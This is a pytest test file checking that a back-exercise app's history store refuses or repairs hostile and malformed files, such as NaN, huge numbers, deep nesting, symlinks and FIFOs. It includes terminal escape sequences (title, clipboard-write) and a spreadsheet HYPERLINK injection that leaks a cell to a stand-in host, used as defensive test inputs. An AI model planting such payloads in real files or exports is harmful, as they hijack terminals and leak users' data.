"""Hostile and broken history files: refused or repaired with a message naming the file
and the field, the original bytes kept in the data dir, never a traceback or a hang."""

from __future__ import annotations

import errno
import io
import json
import os
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest

from backcoach.clock import FakeClock
from backcoach.commands import export, status
from backcoach.core import store as store_module
from backcoach.core.history_models import History
from backcoach.core.store import HistoryStore
from backcoach.core.visible_text import has_control_characters
from backcoach.paths import AppPaths
from store_factory import flag_for, session_on

DAY = date(2026, 11, 20)


def _document(store: HistoryStore) -> dict[str, Any]:
    history = History(
        sessions=[session_on(DAY)],
        flags=[flag_for("superman", "Superman", store.clock.now())],
    )
    return history.model_dump(mode="json")


def _write(store: HistoryStore, document: dict[str, Any] | bytes) -> bytes:
    raw = document if isinstance(document, bytes) else json.dumps(document).encode()
    store.data_dir.mkdir(mode=0o700, parents=True, exist_ok=True)
    store.path.write_bytes(raw)
    return raw


def _kept_copies(store: HistoryStore) -> list[bytes]:
    return [p.read_bytes() for p in sorted(store.data_dir.glob("history.json.*")) if p.is_file()]


def _set(document: dict[str, Any], where: str, value: object) -> dict[str, Any]:
    target: Any = document
    *parts, last = where.split(".")
    for part in parts:
        target = target[int(part)] if part.isdigit() else target[part]
    target[int(last) if last.isdigit() else last] = value
    return document


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("sessions.0.exercises.0.seconds_spent", float("inf")),
        ("sessions.0.exercises.0.seconds_spent", 1e400),
        ("sessions.0.exercises.0.seconds_spent", float("nan")),
        ("sessions.0.pain_before", True),
        ("sessions.0.exercises.0.sets.0.reps_done", "5"),
        ("sessions.0.exercises.0.sets.0.reps_done", 10**30),
        ("flags.0.cleared_at", 12345),
        ("flags.0.cleared_by_clinician", "yes"),
        ("sessions.0.started_at", "9999-12-31T23:00:00-14:00"),
        ("sessions.0.started_at", "0001-01-01T00:00:00+14:00"),
        ("sessions.0.local_date", "9999-12-31"),
        ("sessions.0.local_date", 20261120),
        ("sessions.0.utc_offset_minutes", 15 * 60),
        ("sessions.0.utc_offset_minutes", -13 * 60),
        ("sessions.0.pid", 2**40),
        ("sessions.0.pid", -1),
        ("sessions.0.target_per_day", 10**4000),
    ],
)
def test_a_wrong_value_is_refused_with_the_field_named_and_the_bytes_kept(
    store: HistoryStore, where: str, value: object
) -> None:
    document = _set(_document(store), where, value)
    if isinstance(value, int) and value > 10**100:
        raw = json.dumps(document).replace("null", "0").encode()
        raw = raw.replace(b'"target_per_day": 1', b'"target_per_day": 1' + b"0" * 4000)
        raw = _write(store, raw)
    else:
        raw = _write(store, document)
    report = store.load()
    message = " ".join(report.notices)
    assert str(store.path) in message
    field = where.split(".")[-1]
    assert field in message or "not valid JSON" in message
    assert raw in _kept_copies(store)  # moved aside, not lost
    assert report.history.sessions == []  # no backup: an empty history, never a guess


def test_a_history_nested_a_hundred_thousand_deep_is_moved_aside(store: HistoryStore) -> None:
    raw = _write(store, b'{"schema_version": 2, "sessions": ' + b"[" * 100_000 + b"]" * 100_000)
    report = store.load()
    assert "not valid JSON" in " ".join(report.notices) and raw in _kept_copies(store)


def test_infinity_is_never_written_back_nor_exported(
    store: HistoryStore, app_paths: AppPaths
) -> None:
    _write(store, _set(_document(store), "sessions.0.exercises.0.seconds_spent", 1e400))
    out, err = io.StringIO(), io.StringIO()
    assert export.run(app_paths, "json", out=out, err=err) == 0
    assert "Infinity" not in out.getvalue() and "NaN" not in out.getvalue()
    assert store.save_session(session_on(DAY + timedelta(days=1))).ok
    written = json.loads(store.path.read_bytes())
    spent = [e["seconds_spent"] for s in written["sessions"] for e in s["exercises"]]
    assert spent and all(isinstance(seconds, float) for seconds in spent)
    assert History.model_validate_json(store.path.read_bytes()).sessions  # reads back


def test_a_valid_history_with_a_bom_is_read_not_moved_aside(store: HistoryStore) -> None:
    _write(store, b"\xef\xbb\xbf" + json.dumps(_document(store)).encode())
    report = store.load()
    assert report.notices == [] and len(report.history.sessions) == 1
    assert _kept_copies(store) == []


def test_duplicate_ids_are_merged_with_a_notice_and_the_file_kept(store: HistoryStore) -> None:
    document = _document(store)
    newer = dict(document["sessions"][0], routine_name="Newer copy")
    newer["updated_at"] = "2026-11-20T12:00:00Z"
    cleared = dict(document["flags"][0], cleared_at="2026-11-25T10:00:00Z")
    document["sessions"].append(newer)
    document["flags"] = [cleared, document["flags"][0]]
    raw = _write(store, document)
    report = store.load()
    assert [s.routine_name for s in report.history.sessions] == ["Newer copy"]
    assert len(report.history.flags) == 1 and not report.history.flags[0].active
    message = " ".join(report.notices)
    assert "1 session with an id already used" in message and "1 flag" in message
    (kept,) = store.data_dir.glob("history.json.repaired-*")
    assert kept.read_bytes() == raw and str(kept) in message
    again = HistoryStore(store.data_dir, store.clock).load()
    assert again.notices == [] and len(again.history.sessions) == 1


ESCAPE = "\x1b]2;TITLE\x07\x1b[2J\x1b]52;c;aGk=\x07\x9b"


def test_control_characters_from_history_never_reach_an_output(
    store: HistoryStore, app_paths: AppPaths, clock: FakeClock
) -> None:
    document = _document(store)
    document["sessions"][0]["routine_name"] = f"Daily{ESCAPE}"
    document["sessions"][0]["exercises"][0]["name"] = f'=HYPERLINK("http://x"&A2,"Click"){ESCAPE}'
    document["flags"][0]["exercise_name"] = f"Superman{ESCAPE}"
    raw = _write(store, document)

    out, err = io.StringIO(), io.StringIO()
    status.run(app_paths, clock=clock, out=out, err=err)
    assert "Superman\\x1b]2;TITLE\\x07" in out.getvalue()
    for fmt in ("csv", "json"):
        exported = io.StringIO()
        assert export.run(app_paths, fmt, out=exported, err=io.StringIO()) == 0
        rows = exported.getvalue().replace("\r\n", "\n")  # the CSV's own line ends
        assert not has_control_characters(rows, keep_layout=True)
    assert "'=HYPERLINK(" in _csv(app_paths)  # a formula start is quoted: shown as text
    for text in (out.getvalue(), err.getvalue()):
        assert not has_control_characters(text, keep_layout=True)

    report = store.load()  # the app: escaped on reading, said, the file as it was kept
    assert report.history.sessions[0].routine_name == "Daily\\x1b]2;TITLE\\x07\\x1b[2J" + (
        "\\x1b]52;c;aGk=\\x07\\x9b"
    )
    assert "3 texts with control characters" in " ".join(report.notices)
    (kept,) = store.data_dir.glob("history.json.repaired-*")
    assert kept.read_bytes() == raw
    assert not has_control_characters(store.path.read_text(), keep_layout=True)


def _csv(app_paths: AppPaths) -> str:
    exported = io.StringIO()
    export.run(app_paths, "csv", out=exported, err=io.StringIO())
    return exported.getvalue()


@pytest.mark.parametrize("kind", ["fifo", "directory", "dev-zero", "dev-urandom"])
def test_a_history_that_is_not_a_regular_file_is_refused_never_read_never_replaced(
    store: HistoryStore, kind: str
) -> None:
    store.data_dir.mkdir(mode=0o700)
    if kind == "fifo":
        os.mkfifo(store.path)
    elif kind == "directory":
        store.path.mkdir()
    else:
        store.path.symlink_to("/dev/zero" if kind == "dev-zero" else "/dev/urandom")
    report = store.load()
    assert f"Cannot read {store.path}: not a regular file" in " ".join(report.notices)
    saved = store.save_session(session_on(DAY))
    assert not saved.ok and "not a regular file" in (saved.message or "")
    assert saved.pending == 1  # kept in memory
    assert not store.path.is_file() or store.path.is_symlink()  # left as it was


def test_a_symlinked_history_is_refused_and_the_link_and_its_file_kept(
    store: HistoryStore, tmp_path: Path
) -> None:
    real = tmp_path / "elsewhere.json"
    real.write_bytes(json.dumps(_document(store)).encode())
    before = real.read_bytes()
    store.data_dir.mkdir(mode=0o700)
    store.path.symlink_to(real)
    report = store.load()
    assert "symbolic link" in " ".join(report.notices)
    assert not store.save_session(session_on(DAY + timedelta(days=1))).ok
    assert store.path.is_symlink() and real.read_bytes() == before


def test_status_calls_a_file_bad_exactly_when_the_app_would_move_it_aside(
    store: HistoryStore, app_paths: AppPaths, clock: FakeClock
) -> None:
    _write(store, _set(_document(store), "sessions.0.exercises.0.sets.0.reps_done", True))
    err = io.StringIO()
    status.run(app_paths, clock=clock, out=io.StringIO(), err=err)
    assert f"{store.path} cannot be read" in err.getvalue()
    assert "reps_done" in err.getvalue()
    report = store.load()
    assert any("moved aside" in notice for notice in report.notices)


def test_start_up_keeps_the_file_as_it_was_before_the_start(store: HistoryStore) -> None:
    old = session_on(DAY - timedelta(days=3), status="in_progress")
    old.pid = 4242
    document = History(sessions=[old]).model_dump(mode="json")
    before = _write(store, document)
    report = store.tidy_at_start(store.clock.now().date(), lambda _pid, _since: False)
    assert report.ok
    assert store.history.sessions[0].status == "ended_early"  # marked, then closed
    assert store.backup_path.read_bytes() == before  # one write: .bak is the old file


def test_temp_links_are_cleaned_before_a_save_and_after_a_failed_one(
    store: HistoryStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert store.save_session(session_on(DAY)).ok
    stale = store.data_dir / ".history.json.bak.0123456789ab.tmp"
    os.link(store.path, stale)
    assert store.save_session(session_on(DAY + timedelta(days=1))).ok
    assert not stale.exists()

    def full_disk(path: Path, data: bytes, mode: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(store_module, "atomic_write_bytes", full_disk)
    for day in range(2, 5):
        report = store.save_session(session_on(DAY + timedelta(days=day)))
        assert not report.ok and "the disk is full" in (report.message or "")
    assert list(store.data_dir.glob(".*.tmp")) == []


@pytest.mark.parametrize("which", ["backup", "lock"])
def test_a_directory_as_bak_or_lock_is_named_in_the_message(
    store: HistoryStore, which: str
) -> None:
    assert store.save_session(session_on(DAY)).ok
    path = store.backup_path if which == "backup" else store.lock_path
    if path.exists():
        path.unlink()
    path.mkdir()
    fresh = HistoryStore(store.data_dir, store.clock, lock_timeout=0.1)
    report = fresh.save_session(session_on(DAY + timedelta(days=1)))
    assert not report.ok
    assert f"because of {path}" in (report.message or "")
